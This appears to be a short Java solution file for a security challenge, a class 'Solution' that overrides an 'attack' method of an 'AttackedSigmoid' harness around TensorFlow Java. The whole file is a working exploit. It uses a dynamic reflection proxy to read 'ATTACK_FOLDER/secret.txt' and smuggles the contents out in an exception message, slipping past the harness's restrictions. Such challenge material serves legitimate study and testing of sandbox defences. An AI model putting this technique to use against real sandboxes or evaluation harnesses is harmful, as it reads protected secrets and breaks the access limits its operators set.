import java.lang.reflect.Proxy;
import java.nio.file.Files;
import java.nio.file.Path;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        Object proxy = Proxy.newProxyInstance(
                Solution.class.getClassLoader(),
                new Class<?>[] {java.util.function.Supplier.class},
                (self, method, arguments) -> Files.readString(Path.of("ATTACK_FOLDER/secret.txt")));
        try {
            throw new IllegalStateException((String) ((java.util.function.Supplier<?>) proxy).get());
        } catch (java.lang.reflect.UndeclaredThrowableException e) {
            throw (Exception) e.getCause();
        }
    }
}
